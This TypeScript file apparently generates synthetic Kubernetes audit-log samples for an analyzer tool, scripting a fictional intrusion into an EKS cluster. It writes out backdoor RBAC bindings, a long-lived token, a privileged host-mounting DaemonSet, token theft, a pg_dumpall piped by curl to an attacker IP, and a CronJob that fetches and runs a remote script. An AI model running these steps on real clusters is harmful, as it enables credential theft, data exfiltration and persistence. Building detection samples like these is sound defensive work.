/**
 * The attack stories woven into samples/ (see samples/README.md): kube-apiserver audit events
 * for one intrusion into the EKS cluster prod-eu on Friday 2026-11-20, written the way the API
 * server writes them (fields in its order, ResponseComplete, plus ResponseStarted for streams,
 * bodies at the levels a common audit policy logs them).
 *
 * Everything here is fixed: timestamps are literals, auditIDs and uids are derived from a name
 * by hashing, so the samples only change when this file does. No Math.random, no Date.now.
 *
 * IP addresses are from the documentation ranges (RFC 5737); the attacker's image, domains and
 * AWS account are made up.
 */
import { createHash } from 'node:crypto';
import type { Ev } from '../devkit/shipping';

// ---------------------------------------------------------------------------------------------
// Where events go: the sample objects, by the hour they cover

export type SampleObject = 'eks-09' | 'self-managed-10' | 'self-managed-11' | 'fluent-bit-12' | 'webhook-13';

export interface Story {
  id: string;
  title: string;
  /** The events of the story, by the object that holds them. */
  parts: Array<[SampleObject, Ev[]]>;
}

// ---------------------------------------------------------------------------------------------
// Fixed identifiers and time

/** A UUID (version 4 layout) derived from a name: stable across runs, distinct per name. */
export function uuidFor(name: string): string {
  const h = createHash('sha256').update(`k8s-audit-analyzer samples/${name}`).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[parseInt(h[16], 16) % 4]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

/** 64 hex digits derived from a name (container ids, image digests). */
const hex64 = (name: string): string => createHash('sha256').update(`k8s-audit-analyzer samples/${name}`).digest('hex');

/** Microseconds since the epoch of an RFC 3339 UTC timestamp with up to six fractional digits. */
export function micros(time: string): number {
  const m = /^(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(?:\.(\d{1,6}))?Z$/.exec(time);
  if (!m) throw new Error(`not an RFC 3339 UTC timestamp: ${time}`);
  return Date.parse(`${m[1]}Z`) * 1000 + Number((m[2] ?? '').padEnd(6, '0'));
}

/** RFC 3339 with microseconds, as audit timestamps are written. */
export function microTime(us: number): string {
  const ms = Math.floor(us / 1000);
  return `${new Date(ms).toISOString().slice(0, 23)}${String(us - ms * 1000).padStart(3, '0')}Z`;
}

/** RFC 3339 to the second, as metav1.Time is written. */
const secondsTime = (us: number): string => `${new Date(Math.floor(us / 1000)).toISOString().slice(0, 19)}Z`;

const plus = (time: string, seconds: number): string => microTime(micros(time) + Math.round(seconds * 1e6));

// ---------------------------------------------------------------------------------------------
// One request, written as its audit stages

export interface Caller {
  user: Ev;
  ip: string;
  userAgent: string;
  /** authorization.k8s.io/reason when allowed. */
  reason: string;
}

export interface Call {
  /** Names the request; its auditID is derived from it. */
  id: string;
  /** requestReceivedTimestamp, microseconds: `2026-11-20T09:00:01.204311Z`. */
  at: string;
  /** Latency to ResponseComplete, in milliseconds. */
  ms: number;
  /** Streams (exec, watch): ResponseStarted this many milliseconds after the request arrived. */
  startedMs?: number;
  level: 'Metadata' | 'Request' | 'RequestResponse';
  verb: string;
  uri: string;
  by: Caller;
  objectRef?: Ev;
  /** HTTP status; 200 unless given. A 403 is written as the API server's Forbidden Status. */
  code?: number;
  forbiddenMessage?: string;
  requestObject?: unknown;
  responseObject?: unknown;
  annotations?: Record<string, string>;
}

/** The audit events of one request: [ResponseStarted,] ResponseComplete. */
export function call(c: Call): Ev[] {
  const code = c.code ?? 200;
  const forbidden = code === 403;
  const status: Ev = forbidden
    ? { metadata: {}, status: 'Failure', message: c.forbiddenMessage ?? 'forbidden', reason: 'Forbidden', details: forbiddenDetails(c.objectRef), code }
    : { metadata: {}, code };
  const annotations = {
    'authorization.k8s.io/decision': forbidden ? 'forbid' : 'allow',
    'authorization.k8s.io/reason': forbidden ? '' : c.by.reason,
    ...c.annotations,
  };
  const received = micros(c.at);
  const bodies = c.level !== 'Metadata';
  const stage = (name: string, at: number, withResponse: boolean): Ev => ({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: c.level,
    auditID: uuidFor(`audit/${c.id}`),
    stage: name,
    requestURI: c.uri,
    verb: c.verb,
    user: c.by.user,
    sourceIPs: [c.by.ip],
    userAgent: c.by.userAgent,
    objectRef: c.objectRef,
    responseStatus: status,
    requestObject: bodies ? c.requestObject : undefined,
    responseObject: withResponse && c.level === 'RequestResponse' ? c.responseObject : undefined,
    requestReceivedTimestamp: microTime(received),
    stageTimestamp: microTime(at),
    annotations,
  });
  const events: Ev[] = [];
  if (c.startedMs !== undefined) events.push(stage('ResponseStarted', received + Math.round(c.startedMs * 1000), false));
  events.push(stage('ResponseComplete', received + Math.round(c.ms * 1000), true));
  return events;
}

function forbiddenDetails(ref: Ev | undefined): Ev {
  const details: Ev = {};
  if (typeof ref?.name === 'string') details.name = ref.name;
  if (typeof ref?.resource === 'string') details.kind = ref.resource;
  if (typeof ref?.apiGroup === 'string') details.group = ref.apiGroup;
  return details;
}

/** A managedFields `fieldsV1` set for an object: `f:<key>` per field, `k:{"name":…}` for named list items. */
function fieldsOf(value: unknown): Ev {
  const out: Ev = {};
  if (Array.isArray(value)) {
    for (const item of value as unknown[]) {
      const o = item as Ev | null;
      if (o && typeof o === 'object' && typeof o.name === 'string') out[`k:{"name":"${o.name}"}`] = { '.': {}, ...fieldsOf(o) };
    }
    return out;
  }
  if (value && typeof value === 'object') {
    for (const [key, item] of Object.entries(value as Ev)) {
      if (item === undefined || item === null || key === 'kind' || key === 'apiVersion') continue;
      out[`f:${key}`] = typeof item === 'object' ? { ...(Array.isArray(item) ? {} : { '.': {} }), ...fieldsOf(item) } : {};
    }
  }
  return out;
}

function managedBy(manager: string, apiVersion: string, at: string, object: unknown, subresource?: string): Ev {
  return { manager, operation: 'Update', apiVersion, time: secondsTime(micros(at)), fieldsType: 'FieldsV1', fieldsV1: fieldsOf(object), subresource };
}

/** The object the API server returns for a create: the manifest with identity, version and managed fields. */
function created(manifest: Ev, at: string, id: string, manager: string, extra: Ev = {}): Ev {
  const { kind: _kind, apiVersion, status: _status, ...content } = manifest;
  const { name, namespace, creationTimestamp: _unset, annotations, ...rest } = manifest.metadata as Ev;
  const written = { ...content, metadata: { name, namespace, annotations, ...rest } };
  return {
    ...manifest,
    metadata: {
      name,
      namespace,
      uid: uuidFor(`uid/${id}`),
      resourceVersion: String(183_400_000 + (micros(at) % 9_000_000)),
      generation: extra.generation,
      creationTimestamp: secondsTime(micros(at)),
      ...rest,
      annotations: extra.annotations || annotations ? { ...(annotations as Ev | undefined), ...(extra.annotations as Ev | undefined) } : undefined,
      managedFields: [managedBy(manager, String(apiVersion), at, written)],
    },
    ...(extra.status ? { status: extra.status } : {}),
  };
}

// ---------------------------------------------------------------------------------------------
// Who

const ACCOUNT = '123456789012';
const K8S_VERSION = 'v1.30.9';
const K8S_COMMIT = '2b5b9ba';
const KUBELET_AGENT = 'kubelet/v1.30.8-eks-3c20087 (linux/amd64) kubernetes/3c20087';
const CONTROL_PLANE_IP = '172.16.41.87';
const EKS_ADMIN_POLICY = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy';

/** The attacker's kubectl: a Linux build, where Jordan's own is the macOS one. */
const ATTACKER_KUBECTL = 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46';
/** Where the stolen access key was used from (a VPN exit). */
export const STOLEN_KEY_IP = '203.0.113.66';
/** The attacker's server: uses the backdoor token, serves the payloads, receives the implant. */
export const ATTACKER_SERVER_IP = '198.51.100.23';

const JORDAN_ARN = `arn:aws:iam::${ACCOUNT}:user/jordan.lee`;
const JORDAN_PRINCIPAL = 'AIDAZ4QX7KJ2TB5HVQ8YE';

/** Jordan Lee, a developer: an IAM user whose long-lived access key sits in ~/.aws/credentials on a laptop. */
export const JORDAN: Ev = {
  username: JORDAN_ARN,
  uid: `aws-iam-authenticator:${ACCOUNT}:${JORDAN_PRINCIPAL}`,
  groups: ['system:authenticated'],
  extra: {
    accessKeyId: ['AKIAZ4QX7KJ2R6WLM3PN'],
    arn: [JORDAN_ARN],
    canonicalArn: [JORDAN_ARN],
    principalId: [JORDAN_PRINCIPAL],
    sessionName: [''],
    'sigs.k8s.io/aws-iam-authenticator/principalId': [JORDAN_PRINCIPAL],
  },
};

/** The EKS access entry Jordan kept from an incident months ago: cluster admin. */
export const JORDAN_REASON = `EKS Access Policy: allowed by ClusterRoleBinding "${JORDAN_ARN}+${EKS_ADMIN_POLICY}" of ClusterRole "${EKS_ADMIN_POLICY}" to User "${JORDAN_ARN}"`;

/** Jordan's access key, from somewhere Jordan never works from. */
const stolenKey: Caller = { user: JORDAN, ip: STOLEN_KEY_IP, userAgent: ATTACKER_KUBECTL, reason: JORDAN_REASON };

const BACKDOOR_SA = 'node-health-agent';
const BACKDOOR_NS = 'kube-system';
const TOKEN_JTI = uuidFor('backdoor-token-jti');

/** The cluster-admin service account's token, minted by the attacker (bound to no pod), used from their server. */
const backdoorToken: Caller = {
  user: {
    username: `system:serviceaccount:${BACKDOOR_NS}:${BACKDOOR_SA}`,
    uid: uuidFor(`uid/serviceaccount-${BACKDOOR_SA}`),
    groups: ['system:serviceaccounts', `system:serviceaccounts:${BACKDOOR_NS}`, 'system:authenticated'],
    extra: { 'authentication.kubernetes.io/credential-id': [`JTI=${TOKEN_JTI}`] },
  },
  ip: ATTACKER_SERVER_IP,
  userAgent: ATTACKER_KUBECTL,
  reason: `RBAC: allowed by ClusterRoleBinding "${BACKDOOR_SA}" of ClusterRole "cluster-admin" to ServiceAccount "${BACKDOOR_SA}/${BACKDOOR_NS}"`,
};

/** A kube-controller-manager controller, running as its own service account. */
function controller(name: string): Caller {
  return {
    user: {
      username: `system:serviceaccount:kube-system:${name}`,
      uid: uuidFor(`uid/serviceaccount-${name}`),
      groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'],
      extra: { 'authentication.kubernetes.io/credential-id': [`JTI=${uuidFor(`jti/${name}`)}`] },
    },
    ip: CONTROL_PLANE_IP,
    userAgent: `kube-controller-manager/${K8S_VERSION} (linux/amd64) kubernetes/${K8S_COMMIT}/system:serviceaccount:kube-system:${name}`,
    reason: `RBAC: allowed by ClusterRoleBinding "system:controller:${name}" of ClusterRole "system:controller:${name}" to ServiceAccount "${name}/kube-system"`,
  };
}

const scheduler: Caller = {
  user: { username: 'system:kube-scheduler', groups: ['system:authenticated'] },
  ip: CONTROL_PLANE_IP,
  userAgent: `kube-scheduler/${K8S_VERSION} (linux/amd64) kubernetes/${K8S_COMMIT}/scheduler`,
  reason: 'RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler"',
};

/** A node Karpenter launched at 09:58, the only one in a subnet whose egress to the internet is filtered. */
const NEW_NODE = 'ip-10-0-77-12.us-west-2.compute.internal';
const NEW_NODE_INSTANCE = 'i-0c7d2e9f4a1b3c5d7';
const NEW_NODE_PRINCIPAL = 'AROAZ4QX7KJ2W3NB6TDKQ';
const kubelet: Caller = {
  user: {
    username: `system:node:${NEW_NODE}`,
    uid: `aws-iam-authenticator:${ACCOUNT}:${NEW_NODE_PRINCIPAL}`,
    groups: ['system:bootstrappers', 'system:nodes', 'system:authenticated'],
    extra: {
      accessKeyId: ['ASIAZ4QX7KJ2YH5T2MRV'],
      arn: [`arn:aws:sts::${ACCOUNT}:assumed-role/KarpenterNodeRole-prod-eu/${NEW_NODE_INSTANCE}`],
      canonicalArn: [`arn:aws:iam::${ACCOUNT}:role/KarpenterNodeRole-prod-eu`],
      principalId: [NEW_NODE_PRINCIPAL],
      sessionName: [NEW_NODE_INSTANCE],
      'sigs.k8s.io/aws-iam-authenticator/principalId': [NEW_NODE_PRINCIPAL],
    },
  },
  ip: '10.0.77.12',
  userAgent: KUBELET_AGENT,
  reason: '',
};

const ref = (resource: string, namespace: string | undefined, name: string | undefined, apiGroup = '', apiVersion = 'v1', subresource?: string): Ev => ({
  resource,
  namespace,
  name,
  apiGroup: apiGroup || undefined,
  apiVersion,
  subresource,
});

// ---------------------------------------------------------------------------------------------
// The implant: a privileged DaemonSet that mounts every node's root filesystem

const IMPLANT = 'node-health-agent';
const IMPLANT_IMAGE = 'ghcr.io/node-health/agent:1.4.2';
const IMPLANT_IMAGE_ID = `ghcr.io/node-health/agent@sha256:${hex64('implant-image')}`;

function implantContainer(defaults: boolean): Ev {
  return {
    name: 'agent',
    image: IMPLANT_IMAGE,
    args: [`--server=${ATTACKER_SERVER_IP}:8443`, '--node=$(NODE_NAME)', '--interval=30s'],
    env: [{ name: 'NODE_NAME', valueFrom: { fieldRef: { ...(defaults ? { apiVersion: 'v1' } : {}), fieldPath: 'spec.nodeName' } } }],
    resources: { requests: { cpu: '10m', memory: '32Mi' } },
    volumeMounts: [
      { name: 'host-root', mountPath: '/host' },
      { name: 'containerd-sock', mountPath: '/run/containerd/containerd.sock' },
    ],
    ...(defaults ? { terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' } : {}),
    securityContext: { privileged: true },
  };
}

function implantPodSpec(defaults: boolean): Ev {
  return {
    volumes: [
      { name: 'host-root', hostPath: { path: '/', type: 'Directory' } },
      { name: 'containerd-sock', hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } },
    ],
    containers: [implantContainer(defaults)],
    ...(defaults
      ? { restartPolicy: 'Always', terminationGracePeriodSeconds: 30, dnsPolicy: 'ClusterFirstWithHostNet' }
      : { dnsPolicy: 'ClusterFirstWithHostNet' }),
    serviceAccountName: BACKDOOR_SA,
    ...(defaults ? { serviceAccount: BACKDOOR_SA } : {}),
    hostNetwork: true,
    hostPID: true,
    ...(defaults ? { securityContext: {}, schedulerName: 'default-scheduler' } : {}),
    tolerations: [{ operator: 'Exists' }],
    priorityClassName: 'system-node-critical',
    ...(defaults ? { priority: 2000001000, enableServiceLinks: true, preemptionPolicy: 'PreemptLowerPriority' } : {}),
  };
}

const IMPLANT_LABELS = { 'app.kubernetes.io/name': IMPLANT, 'app.kubernetes.io/part-of': 'eks-node-monitoring' };

function implantDaemonSet(defaults: boolean): Ev {
  return {
    kind: 'DaemonSet',
    apiVersion: 'apps/v1',
    metadata: { name: IMPLANT, namespace: BACKDOOR_NS, creationTimestamp: null, labels: IMPLANT_LABELS },
    spec: {
      selector: { matchLabels: { 'app.kubernetes.io/name': IMPLANT } },
      template: { metadata: { creationTimestamp: null, labels: IMPLANT_LABELS }, spec: implantPodSpec(defaults) },
      ...(defaults ? { updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: 1, maxSurge: 0 } }, revisionHistoryLimit: 10 } : {}),
    },
  };
}

// ---------------------------------------------------------------------------------------------
// a. Stolen laptop credentials bind cluster-admin to a new service account; its token is used.
// b. The same credentials install a privileged DaemonSet mounting every node's root filesystem.

function stolenCredentials(): Story {
  const kubectlCreate = '?fieldManager=kubectl-create&fieldValidation=Strict';
  const serviceAccount: Ev = { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: BACKDOOR_SA, namespace: BACKDOOR_NS, creationTimestamp: null } };
  const binding: Ev = {
    kind: 'ClusterRoleBinding',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name: BACKDOOR_SA, creationTimestamp: null },
    subjects: [{ kind: 'ServiceAccount', name: BACKDOOR_SA, namespace: BACKDOOR_NS }],
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  };
  const t = {
    whoami: '2026-11-20T09:00:01.204311Z',
    canI: '2026-11-20T09:00:01.873402Z',
    nodes: '2026-11-20T09:00:02.950127Z',
    sa: '2026-11-20T09:00:03.611873Z',
    crb: '2026-11-20T09:00:04.027561Z',
    token: '2026-11-20T09:00:04.482930Z',
    tokenWhoami: '2026-11-20T09:03:12.118245Z',
    secrets: '2026-11-20T09:03:14.560712Z',
  };
  const events: Ev[] = [
    ...call({
      id: 'a/whoami',
      at: t.whoami,
      ms: 3.1,
      level: 'Metadata',
      verb: 'create',
      uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
      by: stolenKey,
      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'),
      code: 201,
    }),
    ...call({
      id: 'a/can-i-list',
      at: t.canI,
      ms: 6.4,
      level: 'Metadata',
      verb: 'create',
      uri: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews',
      by: stolenKey,
      objectRef: ref('selfsubjectrulesreviews', undefined, undefined, 'authorization.k8s.io'),
      code: 201,
    }),
    ...call({
      id: 'a/get-nodes',
      at: t.nodes,
      ms: 21.7,
      level: 'Metadata',
      verb: 'list',
      uri: '/api/v1/nodes?limit=500',
      by: stolenKey,
      objectRef: ref('nodes', undefined, undefined),
    }),
    ...call({
      id: 'a/create-sa',
      at: t.sa,
      ms: 7.9,
      level: 'RequestResponse',
      verb: 'create',
      uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts${kubectlCreate}`,
      by: stolenKey,
      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA),
      code: 201,
      requestObject: serviceAccount,
      responseObject: { ...created(serviceAccount, t.sa, `serviceaccount-${BACKDOOR_SA}`, 'kubectl-create') },
    }),
    ...call({
      id: 'a/create-crb',
      at: t.crb,
      ms: 5.2,
      level: 'RequestResponse',
      verb: 'create',
      uri: `/apis/rbac.authorization.k8s.io/v1/clusterrolebindings${kubectlCreate}`,
      by: stolenKey,
      objectRef: ref('clusterrolebindings', undefined, BACKDOOR_SA, 'rbac.authorization.k8s.io'),
      code: 201,
      requestObject: binding,
      responseObject: created(binding, t.crb, `clusterrolebinding-${BACKDOOR_SA}`, 'kubectl-create'),
    }),
    // `kubectl create token node-health-agent -n kube-system --duration=8760h`
    ...call({
      id: 'a/create-token',
      at: t.token,
      ms: 4.6,
      level: 'Request',
      verb: 'create',
      uri: `/api/v1/namespaces/${BACKDOOR_NS}/serviceaccounts/${BACKDOOR_SA}/token`,
      by: stolenKey,
      objectRef: ref('serviceaccounts', BACKDOOR_NS, BACKDOOR_SA, '', 'v1', 'token'),
      code: 201,
      requestObject: {
        kind: 'TokenRequest',
        apiVersion: 'authentication.k8s.io/v1',
        metadata: { creationTimestamp: null },
        spec: { audiences: null, expirationSeconds: 31_536_000, boundObjectRef: null },
        status: { token: '', expirationTimestamp: null },
      },
    }),
    // Three minutes later the token works from the attacker's server.
    ...call({
      id: 'a/token-whoami',
      at: t.tokenWhoami,
      ms: 2.8,
      level: 'Metadata',
      verb: 'create',
      uri: '/apis/authentication.k8s.io/v1/selfsubjectreviews',
      by: backdoorToken,
      objectRef: ref('selfsubjectreviews', undefined, undefined, 'authentication.k8s.io'),
      code: 201,
    }),
    ...call({
      id: 'a/token-list-secrets',
      at: t.secrets,
      ms: 187.3,
      level: 'Metadata',
      verb: 'list',
      uri: '/api/v1/secrets?limit=500',
      by: backdoorToken,
      objectRef: ref('secrets', undefined, undefined),
    }),
  ];
  return { id: 'a', title: 'Stolen laptop credentials bind cluster-admin to a new service account', parts: [['eks-09', events]] };
}

function privilegedDaemonSet(): Story {
  const at = '2026-11-20T09:00:05.390214Z';
  const events = call({
    id: 'b/create-daemonset',
    at,
    ms: 14.8,
    level: 'RequestResponse',
    verb: 'create',
    uri: `/apis/apps/v1/namespaces/${BACKDOOR_NS}/daemonsets?fieldManager=kubectl-create&fieldValidation=Strict`,
    by: stolenKey,
    objectRef: ref('daemonsets', BACKDOOR_NS, IMPLANT, 'apps'),
    code: 201,
    requestObject: implantDaemonSet(false),
    responseObject: created(implantDaemonSet(true), at, `daemonset-${IMPLANT}`, 'kubectl-create', {
      generation: 1,
      annotations: { 'deprecated.daemonset.template.generation': '1' },
      status: { currentNumberScheduled: 0, numberMisscheduled: 0, desiredNumberScheduled: 0, numberReady: 0 },
    }),
  });
  return { id: 'b', title: "A privileged DaemonSet mounting every node's root filesystem", parts: [['eks-09', events]] };
}

// ---------------------------------------------------------------------------------------------
// f. The implant crash-loops on a new node: the DaemonSet puts it there, it cannot reach home.

function crashLoop(): Story {
  const pod = `${IMPLANT}-q7x2m`;
  const podUid = uuidFor(`uid/pod-${pod}`);
  const dsUid = uuidFor(`uid/daemonset-${IMPLANT}`);
  const createdAt = '2026-11-20T10:00:01.318406Z';
  const podMetadata: Ev = {
    generateName: `${IMPLANT}-`,
    namespace: BACKDOOR_NS,
    creationTimestamp: null,
    labels: { ...IMPLANT_LABELS, 'controller-revision-hash': '6d5c8f7b9d', 'pod-template-generation': '1' },
    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'DaemonSet', name: IMPLANT, uid: dsUid, controller: true, blockOwnerDeletion: true }],
  };
  const podSpec: Ev = {
    ...implantPodSpec(true),
    affinity: {
      nodeAffinity: {
        requiredDuringSchedulingIgnoredDuringExecution: {
          nodeSelectorTerms: [{ matchFields: [{ key: 'metadata.name', operator: 'In', values: [NEW_NODE] }] }],
        },
      },
    },
  };
  const podBody: Ev = { kind: 'Pod', apiVersion: 'v1', metadata: podMetadata, spec: podSpec, status: {} };
  const events: Ev[] = [
    ...call({
      id: 'f/create-pod',
      at: createdAt,
      ms: 9.3,
      level: 'RequestResponse',
      verb: 'create',
      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods`,
      by: controller('daemon-set-controller'),
      objectRef: ref('pods', BACKDOOR_NS, pod),
      code: 201,
      requestObject: podBody,
      responseObject: {
        ...podBody,
        metadata: {
          ...podMetadata,
          name: pod,
          uid: podUid,
          resourceVersion: '183512207',
          creationTimestamp: secondsTime(micros(createdAt)),
          managedFields: [managedBy('kube-controller-manager', 'v1', createdAt, { metadata: podMetadata, spec: podSpec })],
        },
        status: { phase: 'Pending', qosClass: 'Burstable' },
      },
      annotations: { 'pod-security.kubernetes.io/enforce-policy': 'privileged:latest' },
    }),
    ...call({
      id: 'f/bind-pod',
      at: '2026-11-20T10:00:01.347920Z',
      ms: 3.4,
      level: 'Request',
      verb: 'create',
      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/binding`,
      by: scheduler,
      objectRef: ref('pods', BACKDOOR_NS, pod, '', 'v1', 'binding'),
      code: 201,
      requestObject: {
        kind: 'Binding',
        apiVersion: 'v1',
        metadata: { name: pod, namespace: BACKDOOR_NS, uid: podUid, creationTimestamp: null },
        target: { kind: 'Node', name: NEW_NODE },
      },
    }),
  ];

  // The kubelet's status patches: the agent starts, exits after a few seconds (its server is
  // unreachable from this subnet), and is restarted after 10 s, 20 s, 40 s, ... up to 5 min.
  const runId = (run: number): string => `containerd://${hex64(`f/run-${run}`)}`;
  /** The container a status describes (the running one, or the one that just died) is run number `restartCount`. */
  const statusPatch = (id: string, at: string, restartCount: number, state: Ev, lastState: Ev, first = false): Ev[] => {
    const ready = 'running' in state;
    const readiness = ready ? 'True' : 'False';
    const why = ready ? {} : { message: 'containers with unready status: [agent]', reason: 'ContainersNotReady' };
    return call({
      id,
      at,
      ms: 4.1,
      level: 'Request',
      verb: 'patch',
      uri: `/api/v1/namespaces/${BACKDOOR_NS}/pods/${pod}/status`,
      by: kubelet,
      objectRef: ref('pods', BACKDOOR_NS, pod, '', 'v1', 'status'),
      requestObject: {
        metadata: { uid: podUid },
        status: {
          '$setElementOrder/conditions': [
            { type: 'PodReadyToStartContainers' },
            { type: 'Initialized' },
            { type: 'Ready' },
            { type: 'ContainersReady' },
            { type: 'PodScheduled' },
          ],
          conditions: [
            { lastTransitionTime: secondsTime(micros(at)), ...why, status: readiness, type: 'Ready' },
            { lastTransitionTime: secondsTime(micros(at)), ...why, status: readiness, type: 'ContainersReady' },
          ],
          containerStatuses: [
            {
              containerID: runId(restartCount),
              image: IMPLANT_IMAGE,
              imageID: IMPLANT_IMAGE_ID,
              lastState,
              name: 'agent',
              ready,
              restartCount,
              started: ready,
              state,
            },
          ],
          ...(first
            ? {
                hostIP: '10.0.77.12',
                hostIPs: [{ ip: '10.0.77.12' }],
                phase: 'Running',
                podIP: '10.0.77.12',
                podIPs: [{ ip: '10.0.77.12' }],
                startTime: secondsTime(micros(createdAt)),
              }
            : {}),
        },
      },
    });
  };
  let started = '2026-11-20T10:00:04.912775Z';
  events.push(...statusPatch('f/status-started-0', plus(started, 0.41), 0, { running: { startedAt: secondsTime(micros(started)) } }, {}, true));
  for (let restart = 1; restart <= 8; restart++) {
    const exited = plus(started, 4.6 + 0.13 * restart);
    const lastState = {
      terminated: {
        containerID: runId(restart - 1),
        exitCode: 1,
        finishedAt: secondsTime(micros(exited)),
        reason: 'Error',
        startedAt: secondsTime(micros(started)),
      },
    };
    const backoff = Math.min(10 * 2 ** (restart - 1), 300);
    const waiting = {
      waiting: {
        message: `back-off ${backoff >= 60 ? `${Math.floor(backoff / 60)}m${backoff % 60}s` : `${backoff}s`} restarting failed container=agent pod=${pod}_${BACKDOOR_NS}(${podUid})`,
        reason: 'CrashLoopBackOff',
      },
    };
    events.push(...statusPatch(`f/status-backoff-${restart}`, plus(exited, 0.38), restart - 1, waiting, lastState));
    if (restart === 2) {
      events.push(
        ...call({
          id: 'f/event-backoff',
          at: plus(exited, 0.52),
          ms: 2.2,
          level: 'Request',
          verb: 'create',
          uri: `/api/v1/namespaces/${BACKDOOR_NS}/events`,
          by: kubelet,
          objectRef: ref('events', BACKDOOR_NS, `${pod}.187a3c5e9d2f41b6`),
          code: 201,
          requestObject: {
            kind: 'Event',
            apiVersion: 'v1',
            metadata: { name: `${pod}.187a3c5e9d2f41b6`, namespace: BACKDOOR_NS, creationTimestamp: null },
            involvedObject: {
              kind: 'Pod',
              namespace: BACKDOOR_NS,
              name: pod,
              uid: podUid,
              apiVersion: 'v1',
              resourceVersion: '183512207',
              fieldPath: 'spec.containers{agent}',
            },
            reason: 'BackOff',
            message: `Back-off restarting failed container agent in pod ${pod}_${BACKDOOR_NS}(${podUid})`,
            source: { component: 'kubelet', host: NEW_NODE },
            firstTimestamp: secondsTime(micros(exited)),
            lastTimestamp: secondsTime(micros(exited)),
            count: 1,
            type: 'Warning',
            eventTime: null,
            reportingComponent: 'kubelet',
            reportingInstance: NEW_NODE,
          },
        }),
      );
    }
    if (restart === 8) break; // the sample ends here; the loop goes on every five minutes
    started = plus(exited, backoff + 0.07 * restart);
    events.push(
      ...statusPatch(`f/status-restarted-${restart}`, plus(started, 0.44), restart, { running: { startedAt: secondsTime(micros(started)) } }, lastState),
    );
  }
  return { id: 'f', title: 'The implant crash-loops on a new node', parts: [['self-managed-10', events]] };
}

// ---------------------------------------------------------------------------------------------
// e. Exec into the payments database with the backdoor token: steal tokens, dump the database.

function databaseExec(): Story {
  const pod = 'postgres-0';
  const ns = 'payments';
  const exec = (id: string, at: string, command: string[], seconds: number): Ev[] =>
    call({
      id,
      at,
      ms: seconds * 1000,
      startedMs: 43.7,
      level: 'Metadata',
      verb: 'get',
      uri: `/api/v1/namespaces/${ns}/pods/${pod}/exec?${command.map((c) => `command=${encodeURIComponent(c).replace(/%20/g, '+')}`).join('&')}&container=postgres&stderr=true&stdout=true`,
      by: backdoorToken,
      objectRef: ref('pods', ns, pod, '', 'v1', 'exec'),
      code: 101,
    });
  const events: Ev[] = [
    ...call({
      id: 'e/list-pods',
      at: '2026-11-20T11:00:02.406518Z',
      ms: 12.6,
      level: 'Metadata',
      verb: 'list',
      uri: `/api/v1/namespaces/${ns}/pods?limit=500`,
      by: backdoorToken,
      objectRef: ref('pods', ns, undefined),
    }),
    ...exec(
      'e/exec-token',
      '2026-11-20T11:00:05.118093Z',
      ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo; cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token'],
      1.2,
    ),
    ...exec(
      'e/exec-dump',
      '2026-11-20T11:00:31.770642Z',
      ['sh', '-c', `pg_dumpall -U postgres | gzip | curl -sk -T - https://${ATTACKER_SERVER_IP}:8443/u/pg.gz`],
      38.4,
    ),
  ];
  return { id: 'e', title: 'Exec into the payments database', parts: [['self-managed-11', events]] };
}

// ---------------------------------------------------------------------------------------------
// d. A CronJob that downloads and runs a script every five minutes.

const CRONJOB = 'image-gc-helper';

function cronJobTemplate(defaults: boolean): Ev {
  return {
    ...(defaults ? { metadata: { creationTimestamp: null } } : {}),
    spec: {
      backoffLimit: 0,
      ttlSecondsAfterFinished: 60,
      template: {
        ...(defaults ? { metadata: { creationTimestamp: null } } : {}),
        spec: {
          serviceAccountName: BACKDOOR_SA,
          ...(defaults ? { serviceAccount: BACKDOOR_SA } : {}),
          restartPolicy: 'Never',
          containers: [
            {
              name: 'gc',
              image: 'docker.io/curlimages/curl:8.10.1',
              command: ['/bin/sh', '-c'],
              args: [`curl -fsSLk https://${ATTACKER_SERVER_IP}:8443/gc.sh | sh`],
              ...(defaults
                ? { resources: {}, terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent' }
                : {}),
            },
          ],
          ...(defaults ? { terminationGracePeriodSeconds: 30, dnsPolicy: 'ClusterFirst', securityContext: {}, schedulerName: 'default-scheduler' } : {}),
        },
      },
    },
  };
}

function cronJobBody(defaults: boolean): Ev {
  return {
    kind: 'CronJob',
    apiVersion: 'batch/v1',
    metadata: {
      name: CRONJOB,
      namespace: BACKDOOR_NS,
      creationTimestamp: null,
      labels: { 'app.kubernetes.io/name': CRONJOB, 'app.kubernetes.io/part-of': 'eks-node-maintenance' },
    },
    spec: {
      schedule: '*/5 * * * *',
      concurrencyPolicy: 'Forbid',
      ...(defaults ? { suspend: false } : {}),
      jobTemplate: cronJobTemplate(defaults),
      successfulJobsHistoryLimit: 0,
      failedJobsHistoryLimit: 0,
    },
    ...(defaults ? { status: {} } : {}),
  };
}

/** The Job the CronJob controller creates at a scheduled time (named after the minute since the epoch). */
function scheduledJob(at: string, scheduled: string): Ev[] {
  const minute = Math.floor(Date.parse(scheduled) / 60_000);
